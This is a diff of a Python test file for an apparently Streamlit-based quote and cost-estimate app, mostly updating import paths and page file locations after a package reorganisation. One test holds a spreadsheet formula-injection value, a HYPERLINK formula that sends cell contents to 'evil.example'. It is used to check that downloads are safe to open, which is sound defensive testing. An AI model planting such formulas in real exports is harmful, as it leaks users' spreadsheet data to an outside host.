@@ -11,12 +11,12 @@ import pytest
 from openpyxl import load_workbook
 from streamlit.testing.v1 import AppTest
 
-from exports.files import export_files
-from models.design_text import load_design_data
-from models.money import QuoteSettings, format_money, make_quote
-from planner import estimate_data, scenario_estimates
+from models.costs.money import QuoteSettings, format_money, make_quote
+from models.design.text import load_design_data
+from service import estimate_data, scenario_estimates
 from storage.share import decode_design, encode_design
 from templates import template_keys, template_text
+from webapp.views.downloads import export_files
 
 APP = str(Path(__file__).resolve().parent.parent / "app.py")
 PHOTO = load_design_data(template_text("photo_thumbnails"))
@@ -176,8 +176,8 @@ def test_the_diagram_shows_every_component():
 
 
 def test_every_label_and_export_word_is_in_english_and_japanese():
-    from exports.words import WORDS
-    from ui_text import FIELD_LABELS, TEXT
+    from i18n.catalog import FIELD_LABELS, TEXT
+    from render.quote.words import WORDS
 
     for table in (TEXT, FIELD_LABELS, WORDS):
         for key, entry in table.items():
@@ -187,10 +187,10 @@ def test_every_label_and_export_word_is_in_english_and_japanese():
 def test_every_text_key_the_new_pages_use_exists():
     import re
 
-    from ui_text import FIELD_LABELS, TEXT
+    from i18n.catalog import FIELD_LABELS, TEXT
 
     root = Path(APP).parent
-    sources = ["app_pages/design.py", "app_pages/compare.py", "app_pages/saved.py", "app_state.py", "ui_compare.py"]
+    sources = ["webapp/pages/design.py", "webapp/pages/compare.py", "webapp/pages/saved.py", "webapp/state.py", "webapp/views/compare.py"]
     used = set()
     for name in sources:
         used |= set(re.findall(r'\btf?\("([a-z_0-9]+)"', (root / name).read_text(encoding="utf-8")))
@@ -198,7 +198,7 @@ def test_every_text_key_the_new_pages_use_exists():
     assert not missing
 
 
-@pytest.mark.parametrize("page", ["app_pages/design.py", "app_pages/compare.py", "app_pages/saved.py"])
+@pytest.mark.parametrize("page", ["webapp/pages/design.py", "webapp/pages/compare.py", "webapp/pages/saved.py"])
 def test_every_input_has_help_text(page):
     at = start()
     at.selectbox(key="template").set_value("static_site_cdn").run()
@@ -220,7 +220,7 @@ def test_the_sidebar_quote_inputs_have_help_with_their_default():
 def test_the_downloads_of_a_hostile_design_are_safe_to_open():
     import csv
 
-    from exports.cells import starts_like_formula
+    from render.quote.cells import starts_like_formula
 
     hostile = load_design_data(template_text("save_app_data"))
     hostile["name"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
